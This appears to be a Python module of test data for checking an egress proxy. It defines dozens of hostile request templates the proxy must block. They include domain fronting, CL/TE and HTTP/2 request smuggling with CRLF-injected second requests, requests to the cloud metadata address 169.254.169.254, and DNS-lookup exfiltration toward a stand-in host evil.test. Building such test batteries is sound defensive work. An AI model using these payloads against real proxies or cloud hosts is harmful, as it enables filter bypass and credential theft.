"""The hostile requests of battery E01 to E50 that a forward proxy must stop, as data: what to say, and when. Pure.

`{ok}` is a listed host, `{reader}` one that may only be read from, `{evil}` an unlisted one that resolves to the same
server (as on a shared front), `{v4}`, `{v6}` and their spellings that server's addresses, `{port}` its port, `{raw}`
the port of a server beside it, `{plain}` one that speaks HTTP in clear, `{mark}` the word by which the server knows
this case. A case reached the server if, and only if, the server saw its mark. Source of the ids: the design's battery.
"""

from collections.abc import Mapping
from dataclasses import dataclass, replace
from enum import StrEnum

from egress_profiles.battery.hello import Form

OK, EVIL, REGISTRY = "platform.byohost.test", "evil.test", "registry.byohost.test"
CHANNELS = "webpubsub.byohost.test"
LISTED = "{ok}:{port}"
GET = "GET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\nConnection: close\r\n\r\n"


class Needs(StrEnum):
    """What a case asks for beside a proxy, a listed and an unlisted host."""

    NOTHING = ""
    PROFILE = "profile"
    """The profile and the names of our own ground: actors, methods, channels, a name that resolves elsewhere."""
    CLUSTER = "cluster"
    """Our own cluster beside that: the canaries' name server, a metadata service, the proxy's other ports."""
    OWNERSHIP = "ownership"
    """The word of whoever asks that the proxy is theirs: others may share what this could disturb."""
    CREDENTIALS = "credentials"
    """A proxy that asks for some."""


@dataclass(frozen=True)
class Case:
    """One attempt: CONNECT (or none), bytes in clear, TLS with a server name, then bytes or HTTP/2 header lists.

    `sni` empty sends none; None speaks no TLS. `requests` are HTTP/2 header lists, one stream each, and `content` what
    follows the last of them. `hello` are the server names of a ClientHello that is sent as it is, in its `form`.
    `credentials` are the client's own, none, or wrong ones. `resolver`: the name server sees the mark, and no other
    server would. `then` is said next on the same connection, once what was said in clear is answered. `socks` is the
    version of SOCKS by which the unlisted host is asked for in place of HTTP; 0 for none.
    """

    id: str
    words: str
    connect: str | None = LISTED
    clear: str = ""
    sni: str | None = "{ok}"
    inside: str = GET
    requests: tuple[tuple[tuple[str, str], ...], ...] = ()
    content: str = ""
    actor: str = "operator"
    needs: Needs = Needs.NOTHING
    credentials: str = "own"
    hello: tuple[str, ...] = ()
    form: Form = Form.PLAIN
    resolver: bool = False
    then: str = ""
    socks: int = 0

    @property
    def group(self) -> str:
        """The battery's id, such as E06, without what tells its variants apart."""
        return self.id.partition("-")[0]

    @property
    def honest(self) -> "Case":
        """The control: the same destination, asked for the way a good client would, the raw port with raw bytes."""
        own = replace(
            self, id=f"{self.id}-control", requests=(), content="", hello=(), credentials="own", then="", socks=0
        )
        if self.connect is None:
            return replace(
                own, clear="GET http://{evil}:{port}/{mark} HTTP/1.1\r\nHost: {evil}:{port}\r\n\r\n", sni=None
            )
        host, _, _ = self.connect.rpartition(":")
        if self.sni is None and self.connect != LISTED:
            return own
        inside = GET.replace("{ok}:{port}", self.connect)
        return replace(own, clear="", sni="" if self.group in {"E05", "E06"} else host, inside=inside)


def fill(text: str, words: Mapping[str, str]) -> str:
    """Put names, ports and the mark into a case's text."""
    for word, value in words.items():
        text = text.replace(f"{{{word}}}", value)
    return text


def _h2(authority: str, *more: tuple[str, str], path: str = "/{mark}") -> tuple[tuple[str, str], ...]:
    return ((":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path), *more)


def _hosts(*hosts: str) -> str:
    fields = "".join(f"Host: {host}\r\n" for host in hosts)
    return f"GET /{{mark}} HTTP/1.1\r\n{fields}Connection: close\r\n\r\n"


_SPELT = ("decimal", "hex", "octal", "short", "mixed", "dot", "mapped", "mapped-hex", "translated")
_ADDRESSES = {
    "E05": "{v4}", "E05-v6": "{v6}", **{f"E06-{name}": f"{{v4-{name}}}" for name in _SPELT}, "E06-zero": "0",
    "E06-zone": "[fe80::1%25lo]",
}  # fmt: skip
_CONFUSABLE = (
    "{ok}.{evil}", "evil{ok}", "x.{ok}", "byohost.test", "{ok}@{evil}", "under_score.{evil}",
    "platform-byohost-test.{evil}", "platform.byohost.test.test", "\uff50latform.byohost.test",
)  # fmt: skip
_KEY = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
_UPGRADE = "Connection: Upgrade\r\nUpgrade: {0}\r\n" + _KEY

_TARGETS = {
    "E41": "https://{evil}:{port}/{mark}", "E41-userinfo": "@{evil}:{port}/{mark}", "E41-bare": "{evil}/{mark}",
    "E41-blank": "/x {mark}", "E41-control": "/\x01{mark}",
}  # fmt: skip
_ACTED = {
    "E48": GET.replace("GET", "get"), "E48-version": GET.replace("HTTP/1.1", "HTTP/2.0"),
    "E48-expect": GET.replace("\r\nConn", "\r\nExpect: 100-continue, {mark}\r\nConn"),
}  # fmt: skip
_BESIDE = {
    "E49": "X-Forwarded-Host: {evil}:{port}", "E49-standard": "Forwarded: for=192.0.2.1;host={evil}",
    "E49-host": "X-Host: {evil}", "E49-target": "X-Original-URL: https://{evil}/{mark}",
    "E49-method": "X-HTTP-Method-Override: POST",
}  # fmt: skip
_AUTHORITIES = {"E50": "[{ok}]:{port}", "E50-zero": "{ok}:0{port}", "E50-sign": "{ok}:+{port}"}
_ENDED = " HTTP/1.1\r\nHost: {evil}:{port}\r\n\r\nGET /{mark}"
_HIDING = {
    "E42": _h2("{ok}:{port}", ("x-a", f"b\r\n\r\nGET /x{_ENDED} HTTP/1.1\r\nX-B: c"), path="/x"),
    "E42-path": _h2("{ok}:{port}", path=f"/x{_ENDED}"),
    "E42-method": ((":method", f"GET /x{_ENDED} HTTP/1.1\r\nX-A:"), *_h2("{ok}:{port}", path="/x")[1:]),
    "E42-name": _h2("{ok}:{port}", ("x-a: b\r\nhost: {evil}:{port}\r\nx-{mark}", "c"), path="/x"),
}

CASES = (
    Case("E01", "CONNECT to an unlisted host", "{evil}:{port}", sni="{evil}", inside=_hosts("{evil}:{port}")),
    Case("E01-actor", "another actor's destination", actor="sandbox", needs=Needs.PROFILE),
    Case("E01-method", "more than may be fetched there", "{reader}:{port}", sni="{reader}", actor="node",
         inside="POST /{mark} HTTP/1.1\r\nHost: {reader}:{port}\r\nContent-Length: 0\r\n\r\n", needs=Needs.PROFILE),
    *(Case(name, "an address, in some spelling", f"{address}:{{port}}") for name, address in _ADDRESSES.items()),
    Case("E07", "another port of the listed host", "{ok}:{raw}", inside=GET.replace("{port}", "{raw}")),
    Case("E07-raw", "raw bytes to another port of the listed host", "{ok}:{raw}", "{mark}", None),
    Case("E08-before", "raw bytes in the tunnel, before TLS", clear="SSH-2.0-{mark}\r\n", sni=None),
    Case("E08-clear", "HTTP in the tunnel without TLS", clear=GET, sni=None),
    Case("E08-after", "raw bytes inside TLS", inside="\x00\x01{mark}\r\n\r\n"),
    Case("E09", "a server name that is not the CONNECT host", sni="{evil}"),
    Case("E09-none", "no server name", sni=""),
    Case("E10", "fronting: Host is another", inside=_hosts("{evil}:{port}")),
    Case("E10-h2", "fronting in HTTP/2", requests=(_h2("{evil}:{port}"),)),
    Case("E11", "CONNECT to another, server name and Host as listed", "{evil}:{port}"),
    Case("E12", "an absolute target inside the tunnel", inside=GET.replace("/{mark}", "https://{evil}:{port}/{mark}")),
    Case("E12-both", "an absolute target and Host inside the tunnel",
         inside=_hosts("{evil}:{port}").replace("/{mark}", "https://{evil}:{port}/{mark}")),
    Case("E13", "two Host fields, the listed first", inside=_hosts("{ok}:{port}", "{evil}:{port}")),
    Case("E13-last", "two Host fields, the listed last", inside=_hosts("{evil}:{port}", "{ok}:{port}")),
    Case("E13-same", "the same Host twice", inside=_hosts("{ok}:{port}", "{ok}:{port}")),
    Case("E13-folded", "two hosts in one field", inside=_hosts("{ok}:{port}, {evil}:{port}")),
    Case("E13-h2", "a Host beside the :authority", requests=(_h2("{ok}:{port}", ("host", "{evil}:{port}")),)),
    Case("E13-none", "no Host", inside="GET /{mark} HTTP/1.0\r\n\r\n"),
    Case("E14", "plain HTTP, target another, Host as listed", None,
         GET.replace("/{mark}", "http://{evil}:{port}/{mark}"), None),
    Case("E14-host", "plain HTTP, Host another", None,
         _hosts("{evil}:{port}").replace("/{mark}", "http://{ok}:{port}/{mark}"), None),
    Case("E14-origin", "origin form to the proxy", None, _hosts("{evil}:{port}"), None),
    Case("E14-listed", "plain HTTP to the listed host", None,
         GET.replace("/{mark}", "http://{ok}:{port}/{mark}"), None),
    Case("E15", "another :authority on a connection in use",
         requests=(_h2("{ok}:{port}", path="/before"), _h2("{evil}:{port}"))),
    *(Case(f"E17-{name}" if "_" not in name and "@" not in name else f"E16-{name}", "a name like the listed one",
           f"{name}:{{port}}", sni="{ok}") for name in _CONFUSABLE),
    Case("E18", "a sibling tenant under the channel suffix", f"sibling.{CHANNELS}:{{port}}", sni=f"sibling.{CHANNELS}",
         inside=f"GET /{{mark}} HTTP/1.1\r\nHost: sibling.{CHANNELS}:{{port}}\r\n" + _UPGRADE.format("websocket"),
         needs=Needs.PROFILE),
    Case("E20", "WebSocket on a host that is no channel", needs=Needs.PROFILE,
         inside="GET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\n" + _UPGRADE.format("websocket")),
    Case("E20-other", "an upgrade to something else", needs=Needs.PROFILE,
         inside="GET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\n" + _UPGRADE.format("raw")),
    Case("E22", "a name that tells something by being looked up", "{mark}.{evil}:{port}", sni="{mark}.{evil}",
         inside=_hosts("{mark}.{evil}:{port}"), needs=Needs.CLUSTER, resolver=True),
    Case("E23", "a listed name that resolves elsewhere", "rebound.byohost.test:{port}", sni="rebound.byohost.test",
         inside=_hosts("rebound.byohost.test:{port}"), needs=Needs.PROFILE),
    Case("E31-metadata", "the metadata service", "169.254.169.254:80", sni=None, needs=Needs.CLUSTER,
         clear="GET /latest/meta-data/{mark} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
    Case("E31-metadata-clear", "the metadata service, in clear", None, sni=None, needs=Needs.CLUSTER,
         clear="GET http://169.254.169.254/latest/meta-data/{mark} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
    *(Case(f"E31-{port}", "the proxy's own ports, from behind", f"127.0.0.1:{port}", sni=None, needs=Needs.CLUSTER,
           clear="GET http://{evil}:{plain}/{mark} HTTP/1.1\r\nHost: {evil}:{plain}\r\n\r\n")
      for port in (3128, 3130)),
    Case("E32", "no credentials", needs=Needs.CREDENTIALS, credentials="none"),
    Case("E32-wrong", "wrong credentials", needs=Needs.CREDENTIALS, credentials="wrong"),
    Case("E33", "two body lengths", inside="POST /x HTTP/1.1\r\nHost: {ok}:{port}\r\nContent-Length: 5\r\n"
         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\n\r\n",
         needs=Needs.OWNERSHIP),
    Case("E34", "a hello for another, cut into records", hello=("{mark}.{evil}",), form=Form.CUT),
    Case("E34-old", "a hello for another, of TLS 1.0", hello=("{mark}.{evil}",), form=Form.OLD),
    Case("E34-two", "a hello for two, the listed first", hello=("{ok}", "{mark}.{evil}")),
    Case("E34-last", "a hello for two, the listed last", hello=("{mark}.{evil}", "{ok}")),
    Case("E39", "a large body to another Host", inside="POST /{mark} HTTP/1.1\r\nHost: {evil}:{port}\r\n"
         "Content-Length: 200000\r\n\r\n" + "{mark}" * 2000),
    *(Case(name, "an HTTP/2 target that is no path", requests=(_h2("{ok}:{port}", path=path),))
      for name, path in _TARGETS.items()),
    Case("E41-http1", "an HTTP/1 target that is no path", inside=GET.replace("/{mark}", "@{evil}:{port}/{mark}")),
    *(Case(name, "a second request in a part of an HTTP/2 head", requests=(head,))
      for name, head in _HIDING.items()),
    *(Case(f"E42-{name}", "bytes in an HTTP/1 field that end it for some",
           inside=_hosts("{ok}:{port}").replace("\r\nConn", f"\r\n{field}\r\nConn"))
      for name, field in {"cr": "X-A: a\rX-B: {mark}", "nul": "X-A: a\0{mark}", "blank": "X-A : {mark}"}.items()),
    Case("E44", "a hello with another name encrypted in it", hello=("{ok}", "{mark}.{evil}"), form=Form.HIDDEN),
    Case("E45", "a body where only reading is permitted", "{reader}:{port}", sni="{reader}", actor="node",
         inside="GET /x HTTP/1.1\r\nHost: {reader}:{port}\r\nContent-Length: 2000\r\n\r\n" + "{mark}" * 120,
         needs=Needs.PROFILE),
    Case("E45-h2", "the same in HTTP/2, of no length for HTTP/1", "{reader}:{port}", sni="{reader}", actor="node",
         requests=(_h2("{reader}:{port}", path="/x"),), content=GET.replace("{ok}", "{reader}"), needs=Needs.PROFILE),
    Case("E46", "an HTTP/2 body that is chunked too", requests=(_h2("{ok}:{port}", ("transfer-encoding", "chunked")),),
         content=f"0\r\n\r\n{GET}"),
    Case("E46-length", "an HTTP/2 body that is longer than it says", content=f"abc{GET}",
         requests=(_h2("{ok}:{port}", ("content-length", "3"), path="/x"),)),
    *(Case(name, "a request line or an Expect that others act on in another way", "{reader}:{port}", sni="{reader}",
           actor="node", inside=inside.replace("{ok}", "{reader}"), needs=Needs.PROFILE)
      for name, inside in _ACTED.items()),
    *(Case(name, "a field that some take for another host, target or method", "{reader}:{port}", sni="{reader}",
           actor="node", inside=_hosts("{reader}:{port}").replace("\r\nConn", f"\r\n{field}\r\nConn"),
           needs=Needs.PROFILE)
      for name, field in _BESIDE.items()),
    *(Case(name, "a CONNECT target that is no plain host:port", authority, needs=Needs.PROFILE)
      for name, authority in _AUTHORITIES.items()),
)  # fmt: skip
